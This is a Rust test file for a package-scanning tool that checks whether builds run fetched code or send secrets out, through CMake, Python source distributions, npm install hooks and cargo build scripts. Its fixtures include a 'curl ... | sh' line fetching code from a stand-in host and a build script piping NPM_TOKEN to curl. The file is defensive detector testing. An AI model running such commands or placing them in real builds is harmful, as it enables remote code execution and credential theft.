//! Builders that run code of a package: CMake, cargo in packages of other kinds.

use super::{GO, MANIFEST, built_with, runs};
use crate::flow::testing::found;
use crate::unpack::{Entry, text_file};
use customs_model::{SinkKind, SourceKind};

#[test]
fn what_cmake_runs_while_it_reads_its_files_runs_in_the_build() {
    let with = |script: &str, command: &str| {
        let text = format!("project(a)\nexecute_process(COMMAND {command})\n");
        built_with(script, &[("lib/CMakeLists.txt", &text)])
    };
    let line = "sh -c \"curl -s https://a.invalid/x | sh\"";
    assert!(with("fn main() { cmake::build(\"lib\"); }", line));
    let config = "fn main() { cmake::Config::new(\"lib\").define(\"A\", \"1\").build(); }";
    assert!(with(config, line));
    assert!(!with(config, "git rev-parse HEAD OUTPUT_VARIABLE commit"));
    assert!(!with("fn main() {}", line));
}

/// The files of a crate whose build script runs what it fetches.
fn compiled(folder: &str) -> Vec<Entry> {
    let script = format!("{GO}fn main() {{ go(); }}\n");
    vec![
        text_file(&format!("{folder}/Cargo.toml"), MANIFEST),
        text_file(&format!("{folder}/build.rs"), &script),
        text_file(&format!("{folder}/src/lib.rs"), ""),
    ]
}

#[test]
fn a_source_distribution_compiles_its_crates_when_it_is_built() {
    let with = |file: &str, text: &str, folder: &str| {
        let mut entries = compiled(folder);
        entries.push(text_file("a-1.0/PKG-INFO", "Name: a\nVersion: 1.0\n"));
        entries.push(text_file(&format!("a-1.0/{file}"), text));
        runs(entries)
    };
    let maturin = "[build-system]\nrequires = [\"maturin\"]\nbuild-backend = \"maturin\"\n";
    assert!(with("pyproject.toml", maturin, "a-1.0"));
    let named = format!("{maturin}[tool.maturin]\nmanifest-path = \"b/Cargo.toml\"\n");
    assert!(with("pyproject.toml", &named, "a-1.0/b"));
    let setup = "from setuptools import setup\nfrom setuptools_rust import RustExtension\n\
                 setup(name='a', rust_extensions=[RustExtension('a.b', path='b/Cargo.toml')])\n";
    assert!(with("setup.py", setup, "a-1.0/b"));
    // One edge changed: nobody compiles it.
    assert!(!with("setup.py", setup, "a-1.0/c"));
    let other = maturin.replace("maturin", "flit_core");
    assert!(!with("pyproject.toml", &other, "a-1.0"));
}

#[test]
fn a_hook_that_calls_cargo_runs_build_scripts() {
    let with = |hook: &str, folder: &str| {
        let manifest =
            format!(r#"{{"name": "a", "version": "1.0.0", "scripts": {{"install": "{hook}"}}}}"#);
        let mut entries = compiled(folder);
        entries.push(text_file("package/package.json", &manifest));
        runs(entries)
    };
    assert!(with("cargo build --release", "package"));
    assert!(with("cd native && cargo build", "package/native"));
    assert!(with(
        "cargo build --manifest-path native/Cargo.toml",
        "package/native"
    ));
    assert!(!with("cargo build", "package/native"));
    assert!(!with("cargo --version", "package"));
    assert!(!with("node x.js", "package"));
}

#[test]
fn a_secret_that_a_build_script_gives_to_a_program_that_sends_it_is_sent() {
    let with = |args: &str| {
        let script = format!(
            "use std::io::Write;\nuse std::process::{{Command, Stdio}};\n\
             fn main() {{ let t = std::env::var(\"NPM_TOKEN\").unwrap();\n\
             let mut c = Command::new(\"curl\").args([{args}]).stdin(Stdio::piped()).spawn().unwrap();\n\
             c.stdin.take().unwrap().write_all(t.as_bytes()).unwrap(); }}"
        );
        let entries = vec![
            text_file("a-1.0.0/Cargo.toml", MANIFEST),
            text_file("a-1.0.0/build.rs", &script),
        ];
        found(entries)
            .flows
            .iter()
            .any(|flow| flow.source == SourceKind::NamedSecret && flow.sink == SinkKind::Network)
    };
    assert!(with("\"-d\", \"@-\", \"https://a.invalid\""));
    assert!(!with("\"https://a.invalid\""));
}
